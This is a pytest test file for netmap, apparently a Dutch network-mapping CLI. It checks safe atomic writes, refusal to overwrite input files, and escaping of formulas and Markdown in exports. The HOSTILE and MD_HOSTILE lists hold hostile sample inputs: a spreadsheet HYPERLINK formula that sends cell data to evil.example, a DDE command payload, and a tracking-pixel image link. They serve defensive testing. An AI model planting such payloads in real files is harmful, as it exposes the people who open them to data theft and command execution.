"""What netmap writes: one safe writer, whole runs, inputs never overwritten, clean lines for bad paths."""
import json
import os
import re
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from netmap.cli import main
from netmap.dataset import example_path
from netmap.io import safe

SMALL = """organisations:
  - {id: a, name: A, level: II, type: gemeente}
  - {id: b, name: B, level: I, type: aanbieder}
networks:
  - {id: n, name: N, level: II, type: rkj}
memberships:
  - {member_id: a, network_id: n}
  - {member_id: b, network_id: n}
"""


@pytest.fixture
def runner():
    return CliRunner()


@pytest.fixture
def small(tmp_path):
    path = tmp_path / "in" / "x.yaml"
    path.parent.mkdir()
    path.write_text(SMALL, encoding="utf-8")
    return path


def _clean(result, code=1):
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


# --- the one writer -------------------------------------------------------------------------------


def test_an_interrupted_write_leaves_the_old_file_and_no_temporary(tmp_path):
    target = tmp_path / "rapport.html"
    target.write_text("old", encoding="utf-8")
    with pytest.raises(KeyboardInterrupt), safe.atomic_path(target) as tmp:
        tmp.write_text("half", encoding="utf-8")
        raise KeyboardInterrupt
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rapport.html"]


def test_a_lone_surrogate_is_written_not_a_zero_byte_file(tmp_path):
    path = safe.write_text(tmp_path / "r.md", "naam \ud800 einde")
    assert path.read_text(encoding="utf-8") == "naam ? einde"


#: Writers not yet on netmap.io.safe (the serve helper's upload workspace, landed during issue 12); delete an
#: entry when its module moves onto the safe writer — a stale entry fails the test.
KNOWN_WRITERS = {"web/workspace.py", "web/backup.py"}  # backup: a restore unpacks into a new, empty folder
#: The same for JSON written without allow_nan=False (the serve helper's pages and workspace).
KNOWN_LOOSE_JSON = {"web/service.py", "web/workspace.py"}


def test_every_writer_of_the_package_goes_through_the_safe_writer():
    """No module but netmap/io/safe.py opens a file for writing, saves a workbook or makes a folder itself."""
    import re

    root = Path(__file__).resolve().parents[1] / "netmap"
    pattern = re.compile(r"\.write_text\(|\.write_bytes\(|open\([^)]*['\"][wax]b?['\"]|\.save\(path|\.mkdir\(|"
                         r"json\.dump\(|nx\.write_")
    offenders = []
    for file in root.rglob("*.py"):
        if file.name == "safe.py":
            continue
        for number, line in enumerate(file.read_text(encoding="utf-8").splitlines(), start=1):
            if pattern.search(line) and "tmp" not in line and ">>>" not in line and "formatter." not in line \
                    and "# in a staged folder" not in line:
                offenders.append(f"{file.relative_to(root)}:{number}: {line.strip()}")
    known = {o for o in offenders if o.split(":")[0] in KNOWN_WRITERS}
    assert sorted(set(offenders) - known) == []
    assert {o.split(":")[0] for o in known} == KNOWN_WRITERS


def test_json_is_strict_everywhere(tmp_path):
    with pytest.raises(ValueError):
        safe.strict_json({"w": float("nan")})
    root = Path(__file__).resolve().parents[1] / "netmap"
    loose = [f"{f.relative_to(root)}" for f in root.rglob("*.py")
             if "json.dumps(" in (text := f.read_text(encoding="utf-8"))
             and text.count("json.dumps(") > text.count("allow_nan=False") + text.count("sort_keys=True")
             and f.name not in ("safe.py",)]
    assert sorted(set(loose) - KNOWN_LOOSE_JSON) == []


# --- a run's outputs replaced together ------------------------------------------------------------


def test_a_run_writes_a_manifest_of_its_files(runner, small, tmp_path):
    out = tmp_path / "out"
    result = runner.invoke(main, ["run", str(small), "-o", str(out)])
    _clean(result, 0)
    manifest = json.loads((out / safe.MANIFEST_NAME).read_text(encoding="utf-8"))
    assert sorted(manifest["files"]) == sorted(["rapport.html", "rapport.md", "definities.html",
                                                "bevindingen.html", "bevindingen.json", "kaart-niveaus.html",
                                                "kaart-netwerk.html", "kaart-overlap.html"])
    assert len(manifest["fingerprint"]) == 64
    assert safe.check_manifest(out) == []
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


def test_every_link_between_a_runs_pages_reaches_a_file_of_the_run(runner, small, tmp_path):
    """The report, the full list and the maps link to each other by the names in netmap.outputs; a
    renamed file must not leave a dead link in any of them (in either language)."""
    from netmap.outputs import RUN_FILES

    for lang in ("nl", "en"):
        out = tmp_path / lang
        _clean(runner.invoke(main, ["run", str(small), "-o", str(out), "--lang", lang]), 0)
        assert sorted(p.name for p in out.iterdir()) == sorted([*RUN_FILES, safe.MANIFEST_NAME])
        local = set()
        for page in out.glob("*.html"):
            for href in re.findall(r'href="([^"#:]+)(?:#[^"]*)?"', page.read_text(encoding="utf-8")):
                local.add(href)
                assert (out / href).is_file(), (lang, page.name, href)
        # the definitions and every map are reached (the full list only when the report leaves findings out)
        assert {"definities.html", "rapport.html", "kaart-niveaus.html", "kaart-netwerk.html",
                "kaart-overlap.html"} <= local, local


def test_an_interrupted_run_leaves_the_previous_run_whole(runner, small, tmp_path, monkeypatch):
    out = tmp_path / "out"
    _clean(runner.invoke(main, ["run", str(small), "-o", str(out)]), 0)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    small.write_text(SMALL.replace("name: A,", "name: Anders,"), encoding="utf-8")

    import netmap.cli.core as core

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(core, "_draw", interrupted)  # Ctrl-C during the maps step
    runner.invoke(main, ["run", str(small), "-o", str(out)])
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert safe.check_manifest(out) == []


def test_a_run_pauses_the_garbage_collector_and_resumes_it_after_success_or_error(runner, small, tmp_path,
                                                                                  monkeypatch):
    import gc

    import netmap.cli.core as core
    import netmap.runs

    seen = []
    real = netmap.runs.fingerprint
    monkeypatch.setattr(netmap.runs, "fingerprint", lambda dataset: seen.append(gc.isenabled()) or real(dataset))
    assert gc.isenabled()
    _clean(runner.invoke(main, ["run", str(small), "-o", str(tmp_path / "out")]), 0)
    assert seen == [False] and gc.isenabled()

    def broken(*args, **kwargs):
        raise RuntimeError("map failed")

    monkeypatch.setattr(core, "_draw", broken)
    assert runner.invoke(main, ["run", str(small), "-o", str(tmp_path / "out2")]).exit_code != 0
    assert gc.isenabled()


def test_files_changed_after_a_run_are_detected(runner, small, tmp_path):
    out = tmp_path / "out"
    _clean(runner.invoke(main, ["run", str(small), "-o", str(out)]), 0)
    (out / "rapport.md").write_text("van een andere run", encoding="utf-8")
    assert safe.check_manifest(out) == ["rapport.md"]


# --- outputs that are inputs ----------------------------------------------------------------------


@pytest.mark.parametrize("args", [
    ["analyse", "{x}", "-o", "{x}"],
    ["analyse", "{dir}", "-o", "{dir}/organisations.csv"],
    ["map", "{x}", "-o", "{x}"],
    ["run", "{dir}", "-o", "{dir}"],
    ["export", "{dir}", "-o", "{dir}/export"],
    ["import", "{x}", "-o", "{x}", "--force"],
    ["diff", "{dir}", "{x}", "-o", "{dir}/d"],
])
def test_an_output_that_is_an_input_is_refused(runner, small, args):
    before = small.read_bytes()
    csv_dir = small.parent
    filled = [a.format(x=small, dir=csv_dir) for a in args]
    result = runner.invoke(main, filled)
    _clean(result)
    assert "zou de invoer" in result.output and "overschrijven" in result.output
    assert small.read_bytes() == before
    assert sorted(p.name for p in csv_dir.iterdir()) == ["x.yaml"]


def test_an_output_beside_the_input_is_fine(runner, small):
    result = runner.invoke(main, ["analyse", str(small), "-o", str(small.with_name("x.json")), "--format", "json"])
    _clean(result, 0)


def test_synth_refuses_to_overwrite_without_force(runner, tmp_path):
    target = tmp_path / "veld.yaml"
    target.write_text("mijn eigen data", encoding="utf-8")
    result = runner.invoke(main, ["synth", "--scale", "0.05", "-o", str(target)])
    _clean(result)
    assert "bestaat al" in result.output and "--force" in result.output
    assert target.read_text(encoding="utf-8") == "mijn eigen data"
    folder = tmp_path / "veld"
    folder.mkdir()
    (folder / "notities.txt").write_text("x", encoding="utf-8")
    _clean(runner.invoke(main, ["synth", "--scale", "0.05", "-o", str(folder)]))
    assert (folder / "notities.txt").exists()
    _clean(runner.invoke(main, ["synth", "--scale", "0.05", "-o", str(target), "--force"]), 0)
    assert target.read_text(encoding="utf-8").startswith("organisations:")


# --- unwritable paths -----------------------------------------------------------------------------


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() == 0, reason="permissions do not bind root")
def test_a_folder_without_permission_is_one_line(runner, tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        for args in (["run", "-o", str(locked / "out")], ["analyse", "-o", str(locked / "a.txt")],
                     ["export", "-f", "json", "-o", str(locked)], ["map", "-o", str(locked / "k.html")]):
            result = runner.invoke(main, args)
            _clean(result)
            errors = [line for line in result.output.splitlines() if not line.startswith("- ")]
            assert len(errors) == 1 and errors[0].startswith("Fout: kan niet schrijven naar"), result.output
            assert "geen toestemming" in errors[0]
    finally:
        locked.chmod(0o700)


def test_a_file_where_a_folder_should_be_is_one_line(runner, tmp_path):
    blocker = tmp_path / "bestand"
    blocker.write_text("x", encoding="utf-8")
    for args in (["run", "-o", str(blocker / "sub")],
                 ["analyse", "-o", str(blocker / "a.txt")], ["export", "-f", "csv", "-o", str(blocker / "e")],
                 ["template", str(blocker / "s.xlsx")]):
        result = runner.invoke(main, args)
        _clean(result)
        errors = [line for line in result.output.splitlines() if not line.startswith("- ")]
        assert len(errors) == 1 and errors[0].startswith("Fout: kan niet schrijven naar"), (args, result.output)


def test_the_shipped_example_is_never_an_output(runner):
    result = runner.invoke(main, ["analyse", "-o", str(example_path() / "organisations.csv")])
    _clean(result)
    assert "zou de invoer" in result.output


def test_permission_denied_is_one_line_also_for_root(runner, tmp_path, monkeypatch):
    """Root ignores folder permissions, so the refusal is simulated where the writer meets it."""
    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied", str(kwargs.get("dir", "")))

    monkeypatch.setattr(safe.tempfile, "mkstemp", refuse)
    monkeypatch.setattr(safe.tempfile, "mkdtemp", refuse)
    for args in (["run", "-o", str(tmp_path / "out")], ["analyse", "-o", str(tmp_path / "a.txt")],
                 ["export", "-f", "json", "-o", str(tmp_path / "e")], ["template", str(tmp_path / "s.xlsx")]):
        result = runner.invoke(main, args)
        _clean(result)
        errors = [line for line in result.output.splitlines() if not line.startswith("- ")]
        assert len(errors) == 1 and errors[0].startswith("Fout: kan niet schrijven naar"), result.output
        assert "geen toestemming" in errors[0]


# --- spreadsheets: formulas stay text, extra columns never overwrite core columns ----------------

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"klik")', "=cmd|' /C calc'!A0", "+31 6 1234", "-5",
           "@SUM(A1)", "\tTab", "'=al-geciteerd", "'gewoon"]


def _hostile_dataset():
    from netmap.model import Dataset, Membership, Node, Tie

    nodes = {"net": Node("net", "network", "Netwerk", type="rkj", levels=("II",))}
    for number, text in enumerate(HOSTILE):
        nodes[f"o{number}"] = Node(f"o{number}", "organisation", text.strip(), type="gemeente",
                                   levels=("II",), region=text.strip(), extra={"notitie": text})
    return Dataset(nodes=nodes, memberships=[Membership(f"o{i}", "net") for i in range(len(HOSTILE))],
                   ties=[Tie("o0", "o1", "learning", note=HOSTILE[1])], source="hostile")


def test_xlsx_exports_write_formula_like_text_as_strings(tmp_path):
    import openpyxl

    from netmap.io.exports import write_export

    dataset = _hostile_dataset()
    for fmt in ("xlsx", "kumu"):
        path = write_export(dataset, fmt, tmp_path / f"{fmt}.xlsx")
        book = openpyxl.load_workbook(path)
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], fmt
        texts = {c.value for c in cells}
        assert set(HOSTILE) - {"-5"} <= texts, fmt  # "-5" stays text too, just not asserted numeric here


def test_csv_exports_prefix_formulas_and_import_reads_them_back(tmp_path):
    import csv

    from netmap.io.exports import write_export
    from netmap.io.imports import import_file
    from netmap.io.writers import write_csv_folder

    dataset = _hostile_dataset()
    folder = write_export(dataset, "csv", tmp_path / "gephi")
    with open(folder / "nodes.csv", encoding="utf-8-sig", newline="") as handle:  # ; and a BOM (Dutch Excel)
        raw = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
    assert not [cell for cell in raw if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=cmd|' /C calc'!A0" in raw and "''=al-geciteerd" in raw and "'gewoon" in raw
    for source in (folder, write_csv_folder(dataset, tmp_path / "tabellen")):
        back, _ = import_file(source)
        assert {n.id: (n.name, n.region, n.extra.get("notitie")) for n in back.nodes.values()} == {
            n.id: (n.name, n.region, n.extra.get("notitie")) for n in dataset.nodes.values()}, source
        assert back.ties[0].note == HOSTILE[1]


def test_the_xlsx_round_trip_keeps_formula_like_text(tmp_path):
    from netmap.io.exports import write_export
    from netmap.io.imports import import_file

    dataset = _hostile_dataset()
    for fmt in ("xlsx", "kumu"):
        back, _ = import_file(write_export(dataset, fmt, tmp_path / f"{fmt}.xlsx"))
        assert sorted(n.name for n in back.nodes.values()) == sorted(n.name for n in dataset.nodes.values()), fmt


CORE_NAMES = ("Label", "Id", "Type", "Source", "Weight", "label", "ID", "Category", "Target", "extra_x")


@pytest.mark.parametrize("fmt", ["csv", "kumu", "json", "graphml", "xlsx"])
def test_extra_columns_named_like_core_columns_never_overwrite_them(tmp_path, fmt):
    from netmap.io.exports import DEFAULT_NAMES, write_export
    from netmap.io.imports import import_file
    from netmap.model import Dataset, Membership, Node, Tie

    extra = {name: f"waarde van {name}" for name in CORE_NAMES}
    dataset = Dataset(nodes={
        "a": Node("a", "organisation", "Gemeente A", type="gemeente", levels=("II",), extra=dict(extra)),
        "b": Node("b", "organisation", "B", type="aanbieder", levels=("I",)),
        "n": Node("n", "network", "N", type="rkj", levels=("II",)),
    }, memberships=[Membership("a", "n"), Membership("b", "n")],
        ties=[Tie("a", "b", "learning", weight=2.0, extra=dict(extra))], source="x")
    back, _ = import_file(write_export(dataset, fmt, tmp_path / DEFAULT_NAMES[fmt]))
    a = back.nodes["a"]
    assert (a.name, a.kind, a.type) == ("Gemeente A", "organisation", "gemeente")
    if fmt == "kumu":  # Kumu's field names ignore case: "Id" and "ID" are one field there
        assert set(a.extra.values()) <= set(extra.values()) and "waarde van Weight" in a.extra.values()
    else:
        assert a.extra == extra
    tie = back.ties[0]
    assert (tie.source_id, tie.target_id, tie.weight) == ("a", "b", 2.0)


# --- one Content-Security-Policy on every HTML page -----------------------------------------------


def _html_outputs(runner, tmp_path, small):
    out = tmp_path / "html"
    other = small.with_name("y.yaml")
    other.write_text(SMALL.replace("name: B,", "name: Bee,"), encoding="utf-8")
    _clean(runner.invoke(main, ["run", str(small), "-o", str(out / "run")]), 0)
    _clean(runner.invoke(main, ["run", str(small), "-o", str(out / "run-rollen"), "--roles-only"]), 0)
    _clean(runner.invoke(main, ["diff", str(small), str(other), "-o", str(out / "diff")]), 0)
    for view in ("levels", "force", "overlap"):
        _clean(runner.invoke(main, ["map", str(small), "--view", view, "-o", str(out / f"kaart-{view}.html")]), 0)
    _clean(runner.invoke(main, ["map", str(small), "--focus", "a", "-o", str(out / "kaart-focus.html")]), 0)
    _clean(runner.invoke(main, ["analyse", str(small), "--format", "html", "-o", str(out / "analyse.html")]), 0)
    return sorted(out.rglob("*.html"))


def test_every_html_output_has_the_one_csp_first_in_its_head(runner, tmp_path, small):
    import lxml.html

    pages = _html_outputs(runner, tmp_path, small)
    assert len(pages) >= 14
    for page in pages:
        doc = lxml.html.fromstring(page.read_bytes())
        head = doc.find("head")
        metas = head.xpath("meta[@http-equiv='Content-Security-Policy']")
        assert len(metas) == 1, page
        scripted = bool(doc.xpath("//script[not(@type='application/json')]"))
        assert metas[0].get("content") == (safe.CSP_WITH_SCRIPT if scripted else safe.CSP), page
        first_active = head.xpath("(script|style|link|base)[1]")
        assert not first_active or head.index(metas[0]) < head.index(first_active[0]), page


# --- Markdown: names are text ---------------------------------------------------------------------

MD_HOSTILE = ["![pixel](http://evil.example/p.gif)", "[klik](http://evil.example)", "# Kop", "<img src=x>",
              "<b>vet</b>", "- lijst", "1. lijst", "`code`", "*nadruk*", "&lt;script&gt;", "a | b"]


def test_markdown_outputs_show_names_as_text(runner, tmp_path):
    from markdown_it import MarkdownIt

    rows = "\n".join(f"  - {{id: o{i}, name: {json.dumps(name)}, level: II, type: gemeente}}"
                     for i, name in enumerate(MD_HOSTILE))
    members = "\n".join(f"  - {{member_id: o{i}, network_id: n}}" for i in range(len(MD_HOSTILE)))
    old = tmp_path / "oud.yaml"
    old.write_text(f"organisations:\n{rows}\nnetworks:\n  - {{id: n, name: N, level: II, type: rkj}}\n"
                   f"memberships:\n{members}\n", encoding="utf-8")
    new = tmp_path / "nieuw.yaml"
    new.write_text(old.read_text(encoding="utf-8").replace("level: II, type: gemeente", "level: I, type: gemeente"),
                   encoding="utf-8")
    _clean(runner.invoke(main, ["run", str(old), "-o", str(tmp_path / "run")]), 0)
    _clean(runner.invoke(main, ["diff", str(old), str(new), "-o", str(tmp_path / "diff")]), 0)
    md = MarkdownIt("commonmark").enable("table")
    for path in (tmp_path / "run" / "rapport.md", tmp_path / "diff" / "verschillen.md"):
        text = path.read_text(encoding="utf-8")
        html = md.render(text)
        # the report's own links (the maps beside it, the definitions, its table of contents) are allowed;
        # nothing a name brings in: no picture, no other link, no markup
        own = re.compile(r'<a href="(kaart-[a-z]+\.html(#finding=\d+)?|#[^"]*|definities\.html|file://[^"]*analyses\.md)">')
        assert "<img" not in html and "<a " not in own.sub("", html), path.name
        assert "<b>" not in html and "<code>" not in html, path.name
        headings = [line for line in text.splitlines() if line.startswith("#")]
        assert not [h for h in headings if "Kop" in h], path.name
        assert "![pixel](http://evil.example/p.gif)" in html.replace("\\", "") or "pixel" in html, path.name
